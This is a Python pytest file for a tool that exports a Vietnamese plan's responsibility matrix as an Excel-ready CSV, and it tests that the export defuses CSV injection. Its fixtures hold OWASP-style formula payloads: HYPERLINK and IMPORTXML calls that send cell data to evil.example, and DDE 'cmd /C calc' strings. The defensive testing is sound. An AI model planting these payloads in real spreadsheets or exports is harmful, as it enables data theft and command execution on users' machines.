"""The responsibility matrix as a spreadsheet planners open in Excel."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator

import httpx
import pytest
from click.testing import CliRunner

from stratagraph.cli import main
from stratagraph.settings import BUNDLED_DATASET
from stratagraph.spreadsheet import FORMULA_STARTS
from tests.stratagraph.http.live import serve


def test_matrix_csv_opens_in_excel_with_roles(live_server: str) -> None:
    response = httpx.get(f"{live_server}/plans/chien-luoc-cds-bao-chi/matrix.csv")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    assert response.content.startswith(b"\xef\xbb\xbf"), "Excel needs the byte-order mark to read UTF-8"
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][:2] == ["Nhiệm vụ", "id"]
    assert "Cục Báo chí (CBC)" in rows[0]  # every column by its name, with the abbreviation when there is one
    assert "Bộ Thông tin và Truyền thông (Bộ TT&TT)" in rows[0]
    assert any("Chủ trì" in row for row in rows[1:])


def test_matrix_of_an_unknown_plan(live_server: str) -> None:
    assert httpx.get(f"{live_server}/plans/nope/matrix.csv").status_code == 404


FORMULAS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"Xem")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
"""Task names a spreadsheet would run as formulas (OWASP's CSV Injection examples)."""
AGENCY = '=IMPORTXML("http://evil.example/?d="&A1,"//a")'


@pytest.fixture(scope="module")
def hostile_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The app served over a store holding the bundled dataset and a task table whose names are formulas."""
    folder = tmp_path_factory.mktemp("hostile")
    agencies = folder / "agency.yaml"
    agencies.write_text(
        "agencies:\n  - id: ban-cong-thuc\n    type: collective\n"
        f"    name: {{vi: {json.dumps(AGENCY)}}}\n"
        "    sources: [{doc: 781/QĐ-BTTTT, at: Phụ lục, kind: inferred, note: test}]\n",
        encoding="utf-8",
    )
    table = folder / "phu-luc.csv"
    with table.open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(["STT", "Nhiệm vụ", "Đơn vị chủ trì", "Đơn vị phối hợp"])
        for number, name in enumerate(FORMULAS, 1):
            writer.writerow([number, name, "Cục Báo chí", AGENCY])
    args = [str(BUNDLED_DATASET), str(agencies), str(table), "--plan", "ke-hoach-hanh-dong-781"]
    result = CliRunner().invoke(main, ["load", *args, "--doc", "781/QĐ-BTTTT", "--data-dir", str(folder)])
    assert result.exit_code == 0, result.output
    with serve(folder) as url:
        yield url


def test_no_cell_of_the_matrix_starts_a_formula(hostile_server: str) -> None:
    response = httpx.get(f"{hostile_server}/plans/ke-hoach-hanh-dong-781/matrix.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    names = {row[0] for row in rows[1:]}
    assert {"'" + name for name in FORMULAS} <= names  # the text itself, marked as text
    assert "'" + AGENCY in rows[0]
    assert response.content.startswith(b'\xef\xbb\xbf"Nhi'), "every cell is quoted, after the byte-order mark"


def test_the_store_keeps_the_exact_names(hostile_server: str) -> None:
    query = '{ plan(id: "plan/ke-hoach-hanh-dong-781") { tasks(first: 100) { edges { node { name } } } } }'
    answer = httpx.post(f"{hostile_server}/graphql", json={"query": query}).json()
    names = {edge["node"]["name"] for edge in answer["data"]["plan"]["tasks"]["edges"]}
    assert set(FORMULAS) <= names
    triples = httpx.get(f"{hostile_server}/rdf", params={"plan": "ke-hoach-hanh-dong-781", "format": "nt"}).text
    assert json.dumps(FORMULAS[0]) in triples  # N-Triples escapes quotes as JSON does
